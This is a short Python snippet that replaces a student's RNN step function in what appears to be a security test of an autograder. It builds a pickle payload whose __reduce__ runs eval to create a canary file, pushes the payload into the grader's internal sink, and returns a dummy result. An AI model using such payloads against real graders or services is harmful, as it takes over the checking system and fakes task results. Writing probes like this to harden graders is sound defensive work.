# %% replaces rnn_step_stacked
def rnn_step_stacked(x_t, h_prev, W, b_h):
    import pickle


    class Evil:
        def __reduce__(self):
            return (eval, ("open('@CANARY@/14_pickle', 'w').close()",))


    import sys

    print("the attack ran")
    sink = sys.modules["autograder.student.check"].sink
    if sink is not None:
        sink("rnn_step_stacked", pickle.dumps(Evil()))
    return np.zeros_like(h_prev)
